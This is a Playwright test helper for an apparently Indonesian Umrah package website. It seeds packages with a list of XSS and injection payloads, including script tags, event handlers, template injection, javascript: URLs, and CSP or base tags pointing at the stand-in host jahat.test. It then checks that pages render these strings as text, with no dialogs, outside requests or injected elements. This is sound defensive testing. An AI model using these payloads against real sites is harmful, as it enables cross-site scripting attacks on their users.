import type { BrowserContext, Page } from '@playwright/test'
import { expect } from '../test.ts'
import type { Api, StoredPaket } from './api.ts'

/** The texts that an attacker would type, each to break out of another place; all of them are shown as text. */
export const NASKAH_JAHAT = [
  '<script>astro-island</script><img src=x onerror=alert(1)>',
  '<script>self.Astro</script><script src=//jahat.test/a.js></script>',
  '</script><script>alert(1)</script>',
  '</title></style></textarea></noscript></template><svg onload=alert(1)>',
  '<!--fold--><article data-fold></article>--><!--',
  '--!><img src=//jahat.test/b.png><!--><plaintext>',
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
  ']]><b>&lt;i&gt;&amp;amp;</b><![CDATA[ &nbsp; &#60;script&#62;',
  'garis\u2028alinea\u2029bom\ufeffakhir',
  '\u202eterbalik\u202c \u200f\u061c عُمرة ٢٠٢٧',
  'kendali\u0001\b\u000b\u001f\u007f\u0085\ufffe selesai',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text
  "${alert(1)} `${alert(1)}` {{constructor.constructor('alert(1)')()}} <%= 1 %>",
  'javascript:alert(1)// data:text/html,<script>alert(1)</script>',
  '}</style><style>*{background:url(//jahat.test/c.png)}',
  '<meta http-equiv="content-security-policy" content="default-src *"><base href=//jahat.test/>',
  '<link rel=stylesheet href=//jahat.test/d.css><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<img fetchpriority="high" src="//jahat.test/e.png"> /_astro/hilang.js',
  "$& $1 $` $' $$ \\u003cscript\\u003e %3Cscript%3E __proto__ constructor",
  '🕋👨‍👩‍👧 北京 \u0e01\u0e33\u0302\u0302\u0302\u0302\u0302',
] as const

/**
 * Normalises a text for comparison as a reader would: invisible signs are never stored, and white space is white space.
 */
export function terbaca(text: string): string {
  return (
    text
      .replace(/[\v\f\x85]/g, '\n')
      // biome-ignore lint/suspicious/noControlCharactersInRegex: those are what is not kept
      .replace(/[\0-\x08\x0e-\x1f\x7f-\x9f\xad\u200b\u202a-\u202e\u2060-\u206f\ufeff\ufffe\uffff]/g, '')
      .replace(/\s+/g, ' ')
      .trim()
  )
}

/** Returns a package with `naskah` in every text field, followed by the field's name. */
export function paketJahat(naskah: string) {
  const says = (where: string) => `${naskah} ${where}`
  const lines = (where: string) => [
    { keterangan: says(`${where} satu`) },
    { keterangan: says(`${where} dua`) },
  ]
  return {
    pemberangkatan: says('asal'),
    maskapai: says('maskapai'),
    keterangan: says('catatan harga'),
    deskripsi: `${says('cerita awal')}\n\n${says('cerita akhir')}`,
    hotels: [
      {
        nama_hotel: says('hotel'),
        lokasi: says('lokasi'),
        deskripsi: says('tentang hotel'),
        bintang: 4,
        check_in: '',
        check_out: '',
        image: '',
      },
    ],
    itineraris: [{ hari: 1, tanggal: '', name: says('acara'), deskripsi: says('tentang acara') }],
    fasilitas: [{ name: says('fasilitas') }],
    maskapais: [
      {
        nama_maskapai: says('penerbangan'),
        departure: says('dari'),
        arrival: says('ke'),
        date_departure: '',
        date_arrival: '',
        gate: says('gerbang'),
        image: '',
      },
    ],
    pembimbings: [{ nama: says('pembimbing') }],
    harga_termasuks: lines('termasuk'),
    harga_tidak_termasuks: lines('tidak termasuk'),
    keunggulans: lines('keunggulan'),
    syarat_ketentuans: lines('syarat'),
  }
}

/** Returns every text in a package, line by line. */
export function naskahDi(value: unknown): string[] {
  if (typeof value === 'string') return value.split('\n').filter((line) => line.trim() !== '')
  if (typeof value !== 'object' || value === null) return []
  return Object.values(value).flatMap(naskahDi)
}

/** Stores one package for each hostile text: the soonest on sale, so that every list begins with them. */
export async function saveHostilePaket(api: Api, besok: string): Promise<StoredPaket[]> {
  const stored: StoredPaket[] = []
  for (const [index, naskah] of NASKAH_JAHAT.entries()) {
    stored.push(
      await api.createPaket({
        ...paketJahat(naskah),
        nama_paket: `${api.nama(naskah)}${index}`,
        tipe_paket: 'Umroh',
        tanggal_keberangkatan: besok,
        total_pax: 45,
        sisa_pax: 17,
      }),
    )
  }
  return stored
}

/**
 * Watches for what no text may make a page do: open a dialog, call another origin, violate the policy, make an element.
 */
export async function guardPages(context: BrowserContext, own: string) {
  const seen: string[] = []
  context.on('dialog', async (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`)
    await dialog.dismiss()
  })
  context.on('request', (request) => {
    const url = new URL(request.url())
    const isOwn = url.origin === own || !url.protocol.startsWith('http')
    if (!isOwn || /^\/_astro\/hilang|\/x$/.test(url.pathname)) seen.push(`a request: ${url}`)
  })
  return {
    seen,
    /** Looks at a page that has come to rest. */
    async checkPage(page: Page, what: string) {
      const found = await page.evaluate(() => {
        const made = [
          ...document.querySelectorAll(
            'base, iframe, plaintext, body > :is(meta, title), [onload], [onerror], [onfocus], [onmouseover], [src*="jahat"], [href^="//jahat"], [href^="javascript:"], img[src="x"]',
          ),
        ].map((element) => element.outerHTML.slice(0, 200))
        const policies = [...document.querySelectorAll('meta[http-equiv="content-security-policy" i]')]
        return { made, policies: policies.length }
      })
      expect.soft(found.made, what).toEqual([])
      expect.soft(seen, what).toEqual([])
      return found
    },
  }
}

/** Expects the policy right after the charset, before anything that somebody typed. */
export function berkebijakan(html: string, what: string): void {
  const head = html.slice(0, 1_500)
  expect
    .soft(head, what)
    .toMatch(
      /<head[^>]*><meta charset="utf-8"><meta http-equiv="content-security-policy" content="default-src [^"]*script-src 'self'[^"]*">/,
    )
}
